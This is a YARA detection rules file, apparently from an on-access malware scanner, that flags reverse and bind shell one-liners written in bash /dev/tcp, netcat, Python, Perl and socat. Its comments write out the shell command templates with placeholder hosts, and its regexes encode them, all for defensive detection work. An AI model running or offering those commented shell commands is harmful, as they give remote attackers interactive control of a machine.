/*
 * Reverse / bind shell one-liners in scripts. Each rule needs the pieces that together make
 * a shell talk to a socket (the connection AND the shell wired to it, close to each other),
 * not any one keyword, and is limited to script-sized files.
 *
 * The examples in the comments are written with "<...>" placeholders on purpose: this file
 * must not match its own rules.
 */

rule Linux_ReverseShell_Bash_DevTcp
{
    meta:
        author = "onaccess"
        description = "Interactive shell redirected to a /dev/tcp or /dev/udp socket (bash reverse shell)"
        severity = "high"

    strings:
        // bash -i >& /dev/tcp/<host>/<port> 0>&1   (also sh/zsh, &>, <>, /dev/udp)
        $redir = /\b(ba|z|k|da)?sh\s+-i\s*[0-9]*(>&|&>|<>|>)\s*\/dev\/(tcp|udp)\/[A-Za-z0-9.:_\-]{1,253}\/[0-9]{1,5}/
        // exec 5<>/dev/tcp/<host>/<port>; cat <&5 | while read line; do $line 2>&5 >&5; done
        $exec_loop = /\bexec\s+[0-9]{1,2}<>\s*\/dev\/(tcp|udp)\/[A-Za-z0-9.:_\-]{1,253}\/[0-9]{1,5}.{1,200}while\s+read\s+[A-Za-z_]+;?\s*do\s+\$[A-Za-z_]+\s+2>&[0-9]\s*>&[0-9]/s

    condition:
        filesize < 1MB and ($redir or $exec_loop)
}

rule Linux_ReverseShell_Netcat_Exec
{
    meta:
        author = "onaccess"
        description = "netcat handing a shell to a network peer (nc -e <shell>, or mkfifo + sh -i piped to nc)"
        severity = "high"

    strings:
        // nc -e <shell> <host> <port>   |   ncat <host> <port> -e <shell>
        $nc_e = /\b(nc|ncat|netcat)(\.traditional|\.openbsd)?\s[^\n;|&]{0,120}-(e|c)\s*['"]?\/bin\/(ba|z|k|da)?sh\b/
        // mkfifo <f>; cat <f> | <shell> -i 2>&1 | nc <host> <port> > <f>
        $fifo = /mkfifo\s+\S+[^\n]{0,120}\|\s*(\/bin\/)?(ba|z|k|da)?sh\s+-i\s+2>&1\s*\|\s*(nc|ncat|netcat)\s/

    condition:
        filesize < 1MB and ($nc_e or $fifo)
}

rule Linux_ReverseShell_Python
{
    meta:
        author = "onaccess"
        description = "Python socket connected back with stdin/stdout/stderr dup2'ed to it and a shell spawned"
        severity = "high"

    strings:
        $socket = "socket.socket(" ascii
        // the connect, then (within a few lines) the socket's fd duplicated onto 0/1/2 ...
        $connect_dup = /\.connect\(\(.{1,300}os\.dup2\(\s*[A-Za-z_][A-Za-z0-9_.]*\.fileno\(\)\s*,\s*[0-2]\s*\)/s
        // ... and, right after the dups, a shell started on them
        $dup_shell = /os\.dup2\(\s*[A-Za-z_][A-Za-z0-9_.]*\.fileno\(\)\s*,\s*[0-2]\s*\).{1,300}(pty\.spawn\(\s*['"](\/bin\/)?(ba|z|k|da)?sh['"]|(subprocess\.(call|Popen|run)|os\.(system|exec[lv]p?e?))\(\s*\[?\s*['"]\/bin\/(ba|z|k|da)?sh['"])/s

    condition:
        filesize < 1MB and $socket and $connect_dup and $dup_shell
}

rule Linux_ReverseShell_Perl
{
    meta:
        author = "onaccess"
        description = "Perl socket connected back with STDIN/STDOUT dup'ed to it and a shell exec'ed"
        severity = "high"

    strings:
        $socket = /\bsocket\s*\(\s*[A-Z_]+\s*,\s*PF_INET/
        $connect_dup = /\bconnect\s*\(\s*[A-Z_]+\s*,\s*sockaddr_in\(.{1,200}open\s*\(\s*STDIN\s*,\s*['"]>&.{1,200}open\s*\(\s*STDOUT\s*,\s*['"]>&/s
        $exec = /open\s*\(\s*STD(OUT|ERR)\s*,\s*['"]>&[^\n]{1,200}exec\s*\(?\s*['"]\/bin\/(ba|z|k|da)?sh\b/

    condition:
        filesize < 1MB and all of them
}

rule Linux_ReverseShell_Socat_Exec
{
    meta:
        author = "onaccess"
        description = "socat joining a TCP socket to an executed shell (reverse or bind shell)"
        severity = "high"

    strings:
        // socat tcp-connect:<host>:<port> exec:<shell>,pty,stderr,setsid
        $net_first = /\bsocat\s[^\n]{0,200}\b(tcp[46]?|tcp[46]?-connect|tcp[46]?-listen|openssl|openssl-connect):[^\s]{1,260}\s+(exec|system):['"]?(\/bin\/)?(ba|z|k|da)?sh\b/ nocase
        // socat exec:'<shell> -li',pty,stderr,setsid,sigint,sane tcp:<host>:<port>
        $exec_first = /\bsocat\s[^\n]{0,200}\b(exec|system):['"]?(\/bin\/)?(ba|z|k|da)?sh\b[^\n]{0,200}\s(tcp[46]?|tcp[46]?-connect|tcp[46]?-listen|openssl|openssl-connect):/ nocase

    condition:
        filesize < 1MB and ($net_first or $exec_first)
}
